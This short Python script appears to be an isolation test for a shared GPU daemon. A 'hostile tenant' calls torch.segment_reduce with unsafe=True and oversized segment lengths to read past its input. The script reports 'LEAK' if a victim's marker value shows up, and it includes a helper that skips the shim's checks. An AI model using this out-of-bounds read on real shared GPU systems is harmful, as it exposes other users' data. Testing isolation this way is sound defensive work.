"""A hostile tenant on a gpud that lets executors run unsafe ops ([aten] permit_unsafe): the ops run, in the
tenant's own executor process (NOTE [executors] in gpud/executors.py), and read past their inputs there. Each
line printed is 'name: outcome'; a result containing the victim's value 1234.5 is printed as 'LEAK'."""

import torch

from shim.torch import stream as S


def attempt(name, fn):
    try:
        out = fn()
        torch.cuda.synchronize()
        vals = out.detach().cpu().reshape(-1) if isinstance(out, torch.Tensor) else torch.tensor([])
        print(
            f"{name}: {'LEAK' if bool((vals == 1234.5).any()) else 'ran, no leak'} ({vals.numel()} values)", flush=True
        )
    except Exception as exc:  # noqa: BLE001
        print(f"{name}: refused: {type(exc).__name__}: {str(exc).splitlines()[0][:200]}", flush=True)


def raw(op):  # a client that skips the shim's own checks and sends the op itself
    value, _ = S.stream().call(op, op[0])
    return value


data = torch.arange(4.0, device="cuda")
lengths = torch.ones(65536, dtype=torch.long, device="cuda")
attempt("segment_reduce_unsafe", lambda: torch.segment_reduce(data, "sum", lengths=lengths, unsafe=True))
print("attacker done", flush=True)
